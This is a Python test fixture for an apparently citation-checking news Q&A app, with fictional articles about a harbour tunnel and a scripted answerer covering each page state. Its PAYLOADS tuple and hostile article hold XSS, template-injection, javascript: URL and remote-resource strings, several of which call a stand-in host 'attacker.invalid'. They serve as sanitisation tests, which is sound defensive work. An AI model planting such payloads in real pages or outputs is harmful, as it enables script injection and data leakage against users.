@@ -1,0 +1,273 @@
+"""A scripted answerer and its articles: every state of the page, without a model.
+
+Articles hold curly quotes and emoji outside the Basic Multilingual Plane; the hostile one holds
+every payload of `PAYLOADS` in its text and title, and some in outlet, author, date, path and URL.
+"""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable, Iterator, Sequence
+
+from citewire.index.errors import InputError, ModelError
+from citewire.index.types import Article
+from citewire.qa.types import (
+    Answer,
+    AnswerHit,
+    Checked,
+    Claim,
+    Conflict,
+    ConflictValue,
+    Draft,
+    Event,
+    Quote,
+    Searched,
+    Status,
+    Timings,
+    Turn,
+    Verdict,
+)
+from citewire.ui.page import Loaded
+
+OUT = "https://attacker.invalid"  # nothing answers there; the browser tests fail on any request to it
+
+PAYLOADS = (
+    "<script>window.pwned=1</script>",
+    f"<img src=x onerror='window.pwned=1'><img src={OUT}/1.png>",
+    f"![a]({OUT}/2.png)",
+    f"![a]({OUT}/3.png?q=secret \"t\")",
+    "[click](javascript:window.pwned=1)",
+    "<a href='javascript:window.pwned=1'>click</a>",
+    f"```mermaid\ngraph TD; A[<img src='{OUT}/4.png' onerror='window.pwned=1'>]\n```",
+    f"<svg onload='window.pwned=1'><image href='{OUT}/5.png'/></svg>",
+    f"<iframe src='{OUT}/6.html' srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    f"<form action='{OUT}/7'><input autofocus onfocus='window.pwned=1'><button>go</button></form>",
+    f"<style>@import '{OUT}/8.css'; body{{background:url({OUT}/9.png)}}</style>",
+    f"<meta http-equiv=refresh content='0;url={OUT}/10'>",
+    "${window.pwned=1}",
+    "{{window.pwned=1}}",
+    "{{#each this}}{{constructor.constructor 'window.pwned=1'}}{{/each}}",
+    "`${(()=>{window.pwned=1})()}`",
+    f"<link rel=stylesheet href={OUT}/11.css><link rel=prefetch href={OUT}/12>",
+    f"<object data='{OUT}/13'></object><embed src='{OUT}/14'>",
+    f"<video autoplay src='{OUT}/15.mp4' onerror='window.pwned=1'></video><audio src={OUT}/16></audio>",
+    f"<base href='{OUT}/'>",
+    "<details open ontoggle='window.pwned=1'>x</details>",
+    "\"><img src=x onerror=window.pwned=1>",
+    "'-(window.pwned=1)-'",
+    f"</div></div><p>\n\n# heading\n\n![b]({OUT}/17.png)\n\n<b onmouseover='window.pwned=1'>b</b>",
+    "$$\\href{javascript:window.pwned=1}{x}$$ <math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
+    "<a class='cw-chip' href='#cw-cite-t1-1' onclick='window.pwned=1'>1</a> #cw-retry-t1",
+)  # fmt: skip
+
+OPENING = "Northgate’s Harbour Tunnel 🚇 will open to traffic on 18 May, transport chief Ines Okafor said."
+COST = "The project’s cost has risen to €1.84 billion, up from the €1.31 billion approved in 2019"
+GALLERY = "A four-metre service gallery beside the northbound tube will open to cyclists 🚴🏽 and pedestrians"
+HOURS = "The gallery will be staffed from 05:30 to 23:00 and closed overnight"
+AUDIT = "The Harbour Tunnel has cost €1.97 billion once financing charges are counted"
+
+ARTICLES = (
+    Article(
+        path="herald/tunnel.txt",
+        text=f"{OPENING}\n\nThe 3.2-kilometre road link 🛣️ runs under the old docks and is expected to take "
+        "21,000 vehicles a day.\n\nMs Okafor told the committee that “there "
+        "is no remaining technical obstacle to opening”. 𝔉ire-safety tests were completed on 6 February.\n\n"
+        f"{COST}, according to the committee papers.\n\nMost of the increase "
+        "came from contaminated soil, which added €290 million, and from steel prices.\n\n"
+        "Opposition councillor Petra Vance said residents deserved “an account of where half a billion "
+        "euros went”. A full audit is due in September.",
+        sha256="1",
+        title="Harbour Tunnel to open in May after two-year delay",
+        outlet="Northgate Herald",
+        author="Mara Lindqvist",
+        published="2026-02-11",
+        url="https://example.org/herald/harbour-tunnel-may",
+    ),
+    Article(
+        path="ledger/audit.txt",
+        text=f"{AUDIT}, the regional audit office said in an interim note on Monday.\n\nThe figure is "
+        "€130 million higher than the number the city gave in February, because it left out interest paid "
+        "during construction.\n\nAuditors said both numbers were “arithmetically correct”.",
+        sha256="2",
+        title="Auditors put tunnel bill at €1.97 billion",
+        outlet="The Quay Ledger",
+        author="Tomas Brandt",
+        published="2026-03-02",
+        url="https://example.org/ledger/tunnel-audit",
+    ),
+    Article(
+        path="plain/gallery.txt",
+        text=f"😀 {GALLERY}, the city confirmed on Monday.\n{HOURS}, the city said.\nCampaigners had "
+        "collected 14,600 signatures for a crossing that did not require the ferry.\nAccess will be free.",
+        sha256="3",
+    ),
+    Article(
+        path="hostile/\"><img src=x onerror=window.pwned=1>.txt",
+        text="HOSTILE " + "\n\n".join(PAYLOADS),
+        sha256="4",
+        title=" ".join(PAYLOADS),
+        outlet=PAYLOADS[0] + PAYLOADS[12],
+        author=PAYLOADS[1] + PAYLOADS[13],
+        published=PAYLOADS[1],
+        url="javascript:window.pwned=1",
+    ),
+)  # fmt: skip
+TUNNEL, LEDGER, PLAIN, HOSTILE = ARTICLES
+EXAMPLES = (
+    "When does the Harbour Tunnel open, and can cyclists use it?",
+    "How much did the Harbour Tunnel cost?",
+    "What will the tunnel toll be?",
+)
+
+
+class ScriptedIndex:
+    """The first three articles, or all four."""
+
+    def __init__(self, articles: Sequence[Article] = ARTICLES[:3]) -> None:
+        self._articles = {article.path: article for article in articles}
+
+    def article(self, path: str) -> Article:
+        if path not in self._articles:
+            raise InputError(f"No article {path!r}", "Choose one that is listed.")
+        return self._articles[path]
+
+    def articles(self) -> Sequence[Article]:
+        return list(self._articles.values())
+
+
+def quote(n: int, article: Article, text: str) -> Quote:
+    """Return the quote of `text`, which occurs in the article once."""
+    start = article.text.index(text)
+    return Quote(n, article.path, start, start + len(text), text)
+
+
+def claim(text: str, verdict: Verdict, *quotes: Quote, reason: str = "", shown: bool = True) -> Claim:
+    return Claim(text, verdict, 0.9, reason, shown, quotes)
+
+
+def hit(article: Article, text: str, score: float) -> AnswerHit:
+    start = article.text.index(text)
+    return AnswerHit(article.path, start, start + len(text), score, text)
+
+
+HITS = (
+    hit(TUNNEL, OPENING, 0.033),
+    hit(PLAIN, GALLERY, 0.032),
+    hit(LEDGER, AUDIT, 0.031),
+    hit(TUNNEL, COST, 0.03),
+)
+OPEN_CLAIMS = (
+    claim("The Harbour Tunnel opens to traffic on 18 May.", "supported", quote(1, TUNNEL, OPENING)),
+    claim(
+        "Cyclists get a four-metre gallery, staffed from 05:30 to 23:00.",
+        "supported",
+        quote(2, PLAIN, GALLERY),
+        quote(3, PLAIN, HOURS),
+    ),
+)
+COST_CLAIMS = (
+    claim("The city put the cost at €1.84 billion.", "supported", quote(1, TUNNEL, COST)),
+    claim("The audit office puts it at €1.97 billion.", "supported", quote(2, LEDGER, AUDIT)),
+    claim(
+        "It was finished in 2019 for €1.31 billion.",
+        "partial",
+        quote(1, TUNNEL, COST),
+        reason="The quote says 1.31 billion was approved, not spent.",
+    ),
+    claim(
+        "It is the most expensive road project in the region’s history.",
+        "unsupported",
+        reason="“most expensive” is in no quote.",
+    ),
+    claim("It has 14 lanes.", "unsupported", reason="14 is in no quote.", shown=False),
+)
+
+
+def value(text: str, article: Article, span: str) -> ConflictValue:
+    start = article.text.index(span)
+    return ConflictValue(text, article.path, article.published, start, start + len(span), span)
+
+
+COST_CONFLICT = Conflict(
+    "total cost of the tunnel", (value("€1.84 billion", TUNNEL, COST), value("€1.97 billion", LEDGER, AUDIT))
+)
+HOSTILE_CLAIMS = tuple(
+    claim(
+        payload,
+        "supported" if i % 2 else "unsupported",
+        *[quote(i, HOSTILE, payload)] * (i % 2),
+        reason=payload,
+    )
+    for i, payload in enumerate(PAYLOADS)
+)
+HOSTILE_CONFLICT = Conflict(PAYLOADS[0], tuple(value(payload, HOSTILE, payload) for payload in PAYLOADS))
+
+
+KINDS = ("hostile", "cost", "toll", "reader", "slow", "failed", "error", "crash")
+
+
+class ScriptedAnswerer:
+    """Answers by the first of `KINDS` that the question holds, else with the opening of the tunnel.
+
+    `histories` collects what each call was given.
+    """
+
+    def __init__(self) -> None:
+        self.histories: list[Sequence[Turn]] = []
+
+    def stream(
+        self, question: str, history: Sequence[Turn], *, stopped: Callable[[], bool]
+    ) -> Iterator[Event]:
+        self.histories.append(tuple(history))
+        kind = next((kind for kind in KINDS if kind in question.lower()), "open")
+        standalone = "Is the tunnel's gallery free for readers?" if kind == "reader" else question
+        hits: tuple[AnswerHit, ...] = HITS
+        if kind == "hostile":
+            standalone = " ".join(PAYLOADS)
+            hits = tuple(hit(HOSTILE, payload, 0.03) for payload in PAYLOADS)
+        yield Searched(standalone, hits)
+        if kind == "crash":
+            raise RuntimeError("a bug")
+        claims, status, conflicts, text = self._script(kind)
+        if kind != "toll":
+            yield Draft(claims[0].text[:20])
+            yield Checked(claims[0])
+        if kind == "error":
+            raise ModelError(
+                "The model server at 127.0.0.1:1 closed the connection", "Start it and press Retry."
+            )
+        if kind == "slow":
+            end = time.monotonic() + 30
+            yield Draft("Cyclists get a four-metre gallery,")
+            while not stopped() and time.monotonic() < end:
+                time.sleep(0.02)
+                yield Draft("Cyclists get a four-metre gallery, staffed from")
+            status, claims, conflicts = "stopped", claims[:1], ()
+        yield Answer(
+            question=question,
+            standalone_question=standalone,
+            status=status,
+            text=text or " ".join(claim.text for claim in claims if claim.shown),
+            claims=claims,
+            conflicts=conflicts,
+            hits=hits,
+            timings=Timings(total_s=2.13),
+            model="scripted",
+        )
+
+    def _script(self, kind: str) -> tuple[tuple[Claim, ...], Status, tuple[Conflict, ...], str]:
+        if kind == "hostile":
+            return HOSTILE_CLAIMS, "partial", (HOSTILE_CONFLICT,), ""
+        if kind == "cost":
+            return COST_CLAIMS, "partial", (COST_CONFLICT,), ""
+        if kind == "toll":
+            return (COST_CLAIMS[-1],), "abstained", (), "The 3 articles do not say this [1]."
+        if kind == "failed":
+            return OPEN_CLAIMS[:1], "failed", (), "The model ran out of memory."
+        return OPEN_CLAIMS, "answered", (), ""
+
+
+def scripted_load(articles: Sequence[Article] = ARTICLES[:3]) -> Callable[[], Loaded]:
+    """Return a `load` for `build_page`."""
+    return lambda: Loaded(ScriptedAnswerer(), ScriptedIndex(articles), "scripted model")
